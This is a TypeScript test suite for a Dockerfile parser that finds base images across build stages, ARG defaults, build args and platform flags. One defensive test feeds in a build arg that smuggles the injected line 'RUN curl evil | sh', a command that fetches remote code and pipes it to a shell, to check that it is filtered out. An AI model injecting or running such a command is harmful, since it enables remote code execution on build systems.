import { findBaseImages } from '../../../src/model/dockerfile-bases'

const find = (text: string, buildArgs: string[] = [], target = '') =>
  findBaseImages(text, { buildArgs, target })

describe('findBaseImages', () => {
  it('gives the bases of the stages the last stage needs, once each, with their --platform as written', () => {
    const text = [
      '# syntax=docker/dockerfile:1',
      'FROM --platform=$BUILDPLATFORM golang:1.26 AS build',
      'RUN --mount=type=cache,target=/root/.cache/go-build go build',
      'FROM alpine:3.20 AS tools',
      'FROM debian:12 AS unused',
      'FROM gcr.example/distroless/static',
      'COPY --from=build /app /app',
      'RUN --mount=type=bind,from=tools,source=/bin,target=/t true',
      'FROM golang:1.26 AS again'
    ].join('\n')
    expect(find(text, [], 'again')).toEqual([{ ref: 'golang:1.26' }])
    expect(find(text.split('\n').slice(0, -1).join('\n'))).toEqual([
      { ref: 'golang:1.26', platform: '$BUILDPLATFORM' },
      { ref: 'alpine:3.20' },
      { ref: 'gcr.example/distroless/static' }
    ])
  })

  it('follows the target by name and stage indexes, and never lists a stage as an image', () => {
    const text = [
      'FROM node:20 AS deps',
      'FROM deps AS test',
      'FROM nginx:1.27 AS web',
      'COPY --from=0 /x /x',
      'COPY --from=docker.io/library/busybox:1.36 /bin/sh /sh'
    ].join('\n')
    expect(find(text, [], 'TEST')).toEqual([{ ref: 'node:20' }])
    expect(find(text)).toEqual([{ ref: 'node:20' }, { ref: 'nginx:1.27' }])
    expect(find(text, [], 'nothing-by-that-name')).toEqual([])
  })

  it('puts in global ARGs from their defaults and the build args that set them, and skips any other variable', () => {
    const text = [
      'ARG GO_IMAGE',
      'ARG BASE="alpine:3.20" UNSET',
      'ARG FROM_ARG=${BASE}',
      'FROM ${GO_IMAGE} AS build',
      'FROM $BASE AS a',
      'FROM ${UNSET:-busybox} AS b',
      'FROM $FROM_ARG AS c',
      'FROM $TARGETARCH/alpine AS d',
      'ARG LATE=x',
      'FROM busybox:$LATE AS e',
      'FROM scratch',
      'COPY --from=build / /',
      'COPY --from=a / /',
      'COPY --from=b / /',
      'COPY --from=c / /',
      'COPY --from=d / /',
      'COPY --from=e / /'
    ].join('\n')
    expect(find(text, ['GO_IMAGE=127.0.0.1:5000/go:1.26', 'UNDECLARED=nope'])).toEqual([
      { ref: '127.0.0.1:5000/go:1.26' },
      { ref: 'alpine:3.20' }
    ])
    expect(find('ARG BASE=alpine\nFROM $BASE', ['BASE=debian:12'])).toEqual([{ ref: 'debian:12' }])
    expect(find('FROM $BASE', ['BASE=debian:12'])).toEqual([])
  })

  it('never lets a value reach a generated file when it is not a plain reference or platform', () => {
    const hostile = [
      'ARG IMG',
      'FROM ${IMG}',
      'FROM --platform=linux/amd64,"x" alpine AS p',
      'FROM --platform=$TARGETPLATFORM alpine:3 AS ok',
      'FROM alpine\\',
      ' AS joined',
      'FROM scratch',
      'COPY --from=0 / /',
      'COPY --from=p / /',
      'COPY --from=ok / /',
      'COPY --from=joined / /'
    ].join('\n')
    expect(find(hostile, ['IMG=alpine\nRUN curl evil | sh'])).toEqual([
      { ref: 'alpine:3', platform: '$TARGETPLATFORM' },
      { ref: 'alpine' }
    ])
    expect(find('FROM "alpine quoted"')).toEqual([])
    expect(find('FROM --platform=linux/amd64 "a b"')).toEqual([])
  })

  it('gives at most eight images, and none for a Dockerfile with no FROM', () => {
    const many = Array.from({ length: 12 }, (_, index) => `FROM img${index}:1 AS s${index}`)
    const text = [...many, 'FROM scratch', ...many.map((_, index) => `COPY --from=s${index} / /`)].join('\n')
    expect(find(text)).toHaveLength(8)
    expect(find('RUN true\n')).toEqual([])
  })
})
